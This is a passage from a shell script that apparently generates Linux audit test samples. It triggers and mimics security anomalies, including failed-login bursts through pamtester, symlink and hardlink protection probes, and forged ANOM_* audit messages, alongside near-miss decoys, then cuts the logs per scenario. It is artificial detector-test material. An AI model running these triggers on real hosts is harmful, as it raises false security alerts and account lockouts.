  as_user sh -c "echo y >> $WORK/sticky/akdet-nobodys-file" 2>/dev/null
  restore_sysctls
}
# The same protections on, the same operations on the user's own files.
sc_neg_anom_link() {
  sysctl -qw fs.protected_symlinks=1 fs.protected_hardlinks=1 fs.protected_regular=1
  as_user sh -c "ln -s /etc/hostname $WORK/sticky/akdet-own-link; cat $WORK/sticky/akdet-own-link >/dev/null
    echo x > $WORK/sticky/akdet-own-file; echo y >> $WORK/sticky/akdet-own-file; ln $WORK/sticky/akdet-own-file $WORK/sticky/akdet-own-hardlink"
  rm -f "$WORK"/sticky/akdet-own-*
  restore_sysctls
}
# User-space anomalies: real PAM modules through pamtester (pam_faillock
# at the third failure: ANOM_LOGIN_FAILURES; pam_access: _LOCATION;
# pam_time: _TIME), then every other user-space ANOM_* type (2100-2199)
# the audit library knows, sent as a program would with
# audit_log_user_message.
sc_pos_anom_user() {
  for i in 1 2 3; do echo wrong | pamtester akdet-anom $USERNAME authenticate >/dev/null 2>&1; done
  pamtester -I rhost=127.0.0.1 -I tty=ssh akdet-anom $USERNAME acct_mgmt >/dev/null 2>&1
  $PY -c 'import audit
fd = audit.audit_open()
made = (audit.AUDIT_ANOM_LOGIN_FAILURES, audit.AUDIT_ANOM_LOGIN_LOCATION, audit.AUDIT_ANOM_LOGIN_TIME)
for n in sorted(dir(audit)):
    t = getattr(audit, n)
    if n.startswith("AUDIT_ANOM_") and 2100 <= t <= 2199 and t not in made:
        audit.audit_log_user_message(fd, t, "op=akdet-probe", None, None, None, 0)'
}
# Near misses: two failures (under faillock's deny=3), accounts allowed by
# pam_access and pam_time, and records of other types that name ANOM_*
# types in their text (a USER message from auditctl -m, RESP_ANOMALY and
# TRUSTED_APP messages, an echo's argument).
sc_neg_anom_user() {
  for i in 1 2; do echo wrong | pamtester akdet-anom-ok $USERNAME authenticate >/dev/null 2>&1; done
  pamtester -I rhost=127.0.0.1 -I tty=ssh akdet-anom-ok $USERNAME acct_mgmt >/dev/null 2>&1
  auditctl -m "akdet-probe type=ANOM_LINK op=ANOM_ABEND"
  $PY -c 'import audit
fd = audit.audit_open()
audit.audit_log_user_message(fd, audit.AUDIT_RESP_ANOMALY, "op=ANOM_LOGIN_FAILURES akdet-probe", None, None, None, 1)
audit.audit_log_user_message(fd, audit.AUDIT_TRUSTED_APP, "op=akdet-probe type=ANOM_ABEND", None, None, None, 1)'
  /bin/echo type=ANOM_PROMISCUOUS >/dev/null
}

: > "$WORK/map"
AUID=1510
for s in $SCENARIOS; do
  if want "$s"; then
    ( echo $AUID > /proc/self/loginuid; cd "$WORK"; "sc_$s" ) </dev/null
    echo "$s $AUID" >> "$WORK/map"
    sleep 0.3
  fi
  AUID=$((AUID + 1))
done
sleep 3

# --- our rules out, auditd down, logs cut per scenario ---------------------
delete_added
rm -f "$WORK/added"
kill "$AUDITD_PID"; wait "$AUDITD_PID" 2>/dev/null; AUDITD_PID=
[ "$ENABLED" = 0 ] || [ "$ENABLED" = 1 ] && auditctl -e "$ENABLED" >/dev/null 2>&1
[ "$(auditctl -l)" = "No rules" ] || echo "WARNING: rules left loaded (someone else's?): $(auditctl -l | wc -l)" >&2
if [ "$ONLY" = "  " ]; then
  cp "$WORK/harden.rules" "$OUT/harden.rules"
  : > "$OUT/scenarios.txt"
elif ! cmp -s "$WORK/harden.rules" "$OUT/harden.rules"; then
  echo "WARNING: the harden rule set differs from $OUT/harden.rules, which the other samples were made with" >&2
fi
touch "$OUT/scenarios.txt"
while read -r s a; do
  name=${s//_/-}
  LC_ALL=C ausearch -if "$LOG" -ua "$a" --raw > "$OUT/$name.log" 2>/dev/null
  chmod 644 "$OUT/$name.log"
  line="$name auid=$a $(wc -l < "$OUT/$name.log") lines"
  echo "$line" >&2
  { grep -v "^$name auid=" "$OUT/scenarios.txt"; echo "$line"; } | sort -t= -k2 -n > "$WORK/scenarios.new"
  cat "$WORK/scenarios.new" > "$OUT/scenarios.txt"
done < "$WORK/map"
